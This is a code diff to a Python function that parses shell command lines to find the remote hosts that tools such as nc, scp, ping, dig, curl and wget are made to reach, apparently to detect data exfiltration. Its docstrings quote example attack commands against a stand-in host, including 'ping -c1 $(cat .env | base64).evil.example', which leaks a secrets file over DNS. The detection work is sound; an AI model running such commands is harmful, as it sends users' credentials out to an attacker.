@@ -150,17 +150,33 @@ _REMOTE = re.compile(
 )
 
 
-def command_hosts(command: str, programs: frozenset[str]) -> Iterator[str]:
-    """The remote hosts that ``programs`` (``scp``, ``nc``...) in a command line are told to
-    reach, written without a URL: ``user@host``, ``host:path``, an IP address, or a name
-    followed by a port (``nc evil.example 4444``)."""
-    for simple in _SIMPLE_COMMANDS.split(command):
+def command_hosts(
+    command: str,
+    programs: frozenset[str],
+    lookups: frozenset[str] = frozenset(),
+    web: frozenset[str] = frozenset(),
+) -> Iterator[str]:
+    """The remote hosts that programs in a command line are told to reach, written without a
+    URL: for ``programs`` (``scp``, ``nc``...) ``user@host``, ``host:path``, an IP address, or a
+    name followed by a port (``nc evil.example 4444``); for ``lookups`` (``ping``, ``dig``...)
+    every name they look up, its address built at run time too (``ping $(...).evil.example``
+    asks the name's own DNS servers); for ``web`` clients (``curl``, ``wget``) a URL with no
+    scheme (``evil.example/c?d=...``)."""
+    simples = _SIMPLE_COMMANDS.split(command)
+    if lookups and ("$(" in command or "`" in command):
+        simples += _SIMPLE_COMMANDS.split(_substituted(command))
+    for simple in simples:
         words = [w.strip("'\"") for w in simple.split()]
         while words and ("=" in words[0] or words[0] in _PREFIXES):
             words.pop(0)
-        if not words or words[0].rsplit("/", 1)[-1] not in programs:
-            continue
+        program = words[0].rsplit("/", 1)[-1] if words else ""
         operands = [w for w in words[1:] if not w.startswith("-")]
+        if program in lookups:
+            yield from (w.lstrip("@").rstrip(".").lower() for w in operands if _NAME.match(w))
+        elif program in web:
+            yield from (m["host"].lower() for w in operands if (m := _SCHEMELESS.match(w)))
+        if program not in programs:
+            continue
         for i, word in enumerate(operands):
             match = _REMOTE.match(word)
             if match is None:
@@ -171,6 +187,21 @@ def command_hosts(command: str, programs: frozenset[str]) -> Iterator[str]:
             remote = match["user"] or match["path"] is not None or _is_ip(host) or port_next
             if remote and not drive:
                 yield host
+
+
+_NAME = re.compile(r"^@?(?:[A-Za-z0-9_-]{1,63}\.)+[A-Za-z]{2,24}\.?$|^@?\d{1,3}(?:\.\d{1,3}){3}$")
+_SCHEMELESS = re.compile(r"^(?P<host>(?:[A-Za-z0-9-]{1,63}\.)+[A-Za-z]{2,24})(?::\d{1,5})?/")
+_SUBSTITUTION = re.compile(r"\$\([^()]*\)|`[^`]*`")
+
+
+def _substituted(command: str) -> str:
+    """``command`` with each command substitution (``$(...)``, backticks) replaced by a word:
+    ``ping -c1 $(cat .env | base64).evil.example`` looks up ``x.evil.example``."""
+    for _ in range(8):  # nested substitutions, innermost first
+        command, found = _SUBSTITUTION.subn("x", command)
+        if not found:
+            break
+    return command
 
 
 def _is_ip(host: str) -> bool:
